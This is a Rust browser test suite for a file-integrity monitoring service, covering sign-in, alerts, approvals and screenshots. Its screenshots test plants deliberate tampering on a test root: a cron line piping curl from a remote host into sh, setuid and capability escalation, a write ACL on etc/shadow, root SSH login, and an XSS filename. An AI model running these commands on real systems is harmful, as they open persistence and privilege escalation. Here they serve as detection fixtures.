//! The pages in a real browser: signing in, live rows, the way to a violation, hostile names, narrow screens, no script.

use std::{
    env, fs,
    io::Write,
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use attestation::statement::{Actor, Session, SessionCommand, Touched};
use pristine_tests::{
    is_root,
    node::{Node, now},
    program::cache,
    roots,
    wait::{LATER, eventually},
    world::{AUTHOR, COMMIT, World},
};
use serde_json::{Value, json};

/// What the browser's scripts need on this machine.
struct Browser {
    chromium: PathBuf,
    modules: PathBuf,
}

/// `None`, said aloud, where something is missing; a failure where `CI` is set, which has it all.
fn browser(test: &str) -> Option<Browser> {
    match find() {
        Ok(browser) => Some(browser),
        Err(missing) => {
            assert!(env::var_os("CI").is_none(), "{test} needs {missing}");
            eprintln!("left out, needs {missing}: {test}");
            None
        }
    }
}

fn find() -> Result<Browser, String> {
    let node = Command::new("node").arg("--version").output();
    if !node.is_ok_and(|said| said.status.success()) {
        return Err("node".to_owned());
    }
    let named = env::var_os("PRISTINE_TEST_CHROMIUM").map(PathBuf::from);
    let usual = [
        "/usr/bin/chromium",
        "/usr/bin/chromium-browser",
        "/usr/bin/google-chrome",
    ];
    let chromium = named
        .into_iter()
        .chain(usual.map(PathBuf::from))
        .find(|path| path.exists())
        .ok_or("chromium (or PRISTINE_TEST_CHROMIUM)")?;
    let modules = cache().join("browser/node_modules");
    if modules.join("playwright-core").is_dir() {
        Ok(Browser { chromium, modules })
    } else {
        Err(format!(
            "playwright-core in {}: call tests/run",
            modules.display()
        ))
    }
}

/// Runs a script of `tests/browser` as somebody who signs in to `world`.
#[track_caller]
fn run(browser: &Browser, world: &World, script: &str, more: Value) {
    let mut task = json!({
        "chromium": browser.chromium,
        "modules": browser.modules,
        "url": world.people.base(),
        "user": world.collector.first.user,
        "password": world.collector.first.password,
        "commit": COMMIT,
        "author": AUTHOR,
    });
    let (Value::Object(task_of), Value::Object(more)) = (&mut task, more) else {
        unreachable!("both are objects");
    };
    task_of.extend(more);
    let script = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("browser")
        .join(script);
    let mut child = Command::new("node")
        .arg(&script)
        .stdin(Stdio::piped())
        .spawn()
        .expect("node");
    let mut stdin = child.stdin.take().expect("piped");
    stdin
        .write_all(task.to_string().as_bytes())
        .expect("a task");
    drop(stdin);
    let status = child.wait().expect("the end of node");
    assert!(
        status.success(),
        "{}: {status}\n{}",
        script.display(),
        world.diagnosis()
    );
}

#[test]
fn an_operator_finds_what_changed_in_a_real_browser() {
    let Some(browser) = browser("the pages in a browser") else {
        return;
    };
    let world = World::start();
    let root = roots::small(&world.path("root"));
    let second = roots::small(&world.path("second"));
    fs::remove_dir_all(&second).expect("an empty place");
    pristine_tests::program::tool("cp", [Path::new("-a"), &root, &second]);
    world.image(&root, "base", "1.0", &[]);
    let _agents = [world.agent("web-1", &root), world.agent("web-2", &second)];
    world.wait_for_status("web-1", "pristine");
    world.wait_for_status("web-2", "pristine");
    run(
        &browser,
        &world,
        "pages.mjs",
        json!({ "root": root, "knows_who": is_root() }),
    );
    world.check();
}

const PASSWORD: &str = "correct horse battery";
/// What the next version changes.
const CONTENT: &str = "listen = 443\n";
#[test]
fn one_click_leads_from_an_alert_to_the_login_in_a_real_browser() {
    let Some(browser) = browser("a login in a browser") else {
        return;
    };
    let world = World::start();
    let node = Node::join(&world, "web-1");
    let began = now();
    let ran = |pid, exe: &str| SessionCommand {
        at: began,
        pid,
        exe: exe.to_owned(),
        arguments: None,
        exit: None,
    };
    let told = node.statement(|statement| {
        statement.predicate.sessions = vec![Session {
            session: 7,
            auid: 0,
            user: Some("root".to_owned()),
            from: Some("192.0.2.1".to_owned()),
            tty: Some("pts/0".to_owned()),
            started: began,
            ended: None,
            commands: vec![ran(100, "/usr/bin/bash"), ran(101, "/usr/bin/vi")],
            dropped: 0,
        }];
        statement.predicate.touched = vec![Touched {
            path: "./etc/motd".parse().expect("a path"),
            event: "modify".to_owned(),
            count: 1,
            first: now(),
            last: now(),
            actor: Some(Actor {
                pid: 101,
                session: Some(7),
                ..Actor::default()
            }),
        }];
    });
    assert_eq!(node.send(&[told]).expect("an answer").status, 200);
    let alert = eventually("an alert", LATER, || {
        world
            .webhook
            .deliveries()
            .iter()
            .map(|delivery| delivery.violation().clone())
            .find(|violation| violation["kind"] == "touched")
    });
    run(
        &browser,
        &world,
        "login.mjs",
        json!({ "violation": alert["id"], "node": node.id.to_string() }),
    );
}

/// Nodes of the rollout.
const FLEET: usize = 20;

#[test]
fn what_one_person_asks_for_another_approves_in_a_real_browser() {
    let Some(browser) = browser("two people in a browser") else {
        return;
    };
    let world = World::start();
    let first = roots::small(&world.path("root-01"));
    let roots: Vec<PathBuf> = (1..=FLEET)
        .map(|n| world.path(&format!("root-{n:02}")))
        .collect();
    for root in &roots[1..] {
        pristine_tests::program::tool("cp", [Path::new("-a"), &first, root]);
    }
    world.image(&first, "base", "1.0", &["--epoch", "1"]);
    let pipeline = json!({"kind": "api", "role": "publisher", "label": "pipeline"});
    let pipeline = world.people.post("/api/v1/tokens", &pipeline);
    let next = world.path("next");
    pristine_tests::program::tool("cp", [Path::new("-a"), &first, &next]);
    fs::write(next.join("etc/app/app.conf"), CONTENT).expect("the next version");
    let image = world.signed(&next, "base", "2.0", &["--epoch", "2"]);
    let publish = world
        .pristine()
        .env("PRISTINE_URL", world.people.base())
        .env(
            "PRISTINE_TOKEN",
            pipeline["token"].as_str().expect("a token"),
        )
        .args(["image", "publish"])
        .arg(&image.file)
        .status();
    assert!(publish.expect("pristine").success());
    let person = |user: &str, role: &str| {
        let account = json!({"user": user, "role": role, "password": PASSWORD});
        world.people.post("/api/v1/accounts", &account);
        json!({"user": user, "password": PASSWORD})
    };
    let (olga, ann) = (person("olga", "operator"), person("ann", "approver"));
    let agents: Vec<_> = (1..)
        .zip(&roots)
        .map(|(n, root)| world.agent(&format!("web-{n:02}"), root))
        .collect();
    for n in 1..=agents.len() {
        world.wait_for_status(&format!("web-{n:02}"), "pristine");
    }
    run(
        &browser,
        &world,
        "approvals.mjs",
        json!({ "roots": roots, "image": image.sha256, "content": CONTENT, "olga": olga, "ann": ann }),
    );
    drop(agents);
    world.check();
}

/// A shell at work in a root, there until it is dropped, so that the agent can see who it is. Not a child of the test: the line of
/// processes shall be the shell's, not ours.
struct Shell(std::process::ChildStdin);

impl Shell {
    fn at(root: &Path) -> Self {
        let mut begun = Command::new("setsid")
            .args(["--fork", "bash"])
            .current_dir(root)
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("a shell");
        let typing = begun.stdin.take().expect("piped");
        begun.wait().expect("setsid leaves the shell behind");
        Self(typing)
    }

    fn types(&mut self, keys: &str) {
        self.0.write_all(keys.as_bytes()).expect("keys");
    }
}

/// An editor that is still open after writing.
const EDIT: &str = "ed -s etc/ssh/sshd_config\n,s/#PermitRootLogin .*/PermitRootLogin yes/\nw\n";
/// What people do to machines: each a real change on a real root.
const TAMPER: &str = "
PATH=$PATH:/usr/sbin:/sbin
chmod u+s usr/bin/find
setcap cap_setuid=ep usr/bin/python3.11
setfacl -m u:33:rw etc/shadow
ln -sfn /usr/bin/python3 etc/alternatives/awk
echo '* * * * * root curl -s http://203.0.113.7/s | sh' > etc/cron.d/sync
rm etc/logrotate.d/nginx
echo x > $'srv/<script>alert(1)<\\n.html'
";

#[test]
#[ignore = "makes pictures; call tests/browser/screenshots"]
fn screenshots() {
    let Some(browser) = browser("pictures of the pages") else {
        return;
    };
    if pristine_tests::left_out_without_root("pictures of a real Debian root") {
        return;
    }
    let asked = env::var_os("PRISTINE_SCREENSHOTS").filter(|folder| !folder.is_empty());
    let usual = Path::new(env!("CARGO_MANIFEST_DIR")).join("../packaging/screenshots");
    let folder = asked.clone().map_or(usual, PathBuf::from);
    fs::create_dir_all(&folder).expect("a folder for pictures");
    let world = World::start();
    let root = roots::debian(&world.path("root"));
    let quiet = roots::debian_original();
    world.image(&root, "debian", "12.8", &[]);
    let names = ["web-17", "web-18", "web-19", "db-3"];
    let _agents =
        names.map(|name| world.agent(name, if name == "web-17" { &root } else { &quiet }));
    for name in names {
        world.wait_for_status(name, "pristine");
    }
    let opened = |path: &str| {
        eventually("the change is told", LATER, || {
            world.people.open("difference", path)
        })["id"]
            .as_str()
            .expect("an id")
            .to_owned()
    };
    let mut editor = Shell::at(&root);
    editor.types(EDIT);
    let config = opened("./etc/ssh/sshd_config");
    let mut task = json!({ "folder": folder, "violation": config, "node": world.id("web-17") });
    let mut shell = Shell::at(&root);
    shell.types(TAMPER);
    let setuid = opened("./usr/bin/find");
    let cron = opened("./etc/cron.d/sync");
    if asked.is_some() {
        let page = |path: &str| format!("/violations/{}", opened(path));
        task["all"] = json!({
            "v-config": page("./etc/ssh/sshd_config"), "v-setuid": format!("/violations/{setuid}"), "v-cron": format!("/violations/{cron}"),
            "v-capability": page("./usr/bin/python3.11"), "v-acl": page("./etc/shadow"), "v-link": page("./etc/alternatives/awk"),
            "v-removed": page("./etc/logrotate.d/nginx"), "quiet": format!("/nodes/{}", world.id("web-18")),
        });
    }
    run(&browser, &world, "screenshots.mjs", task);
}
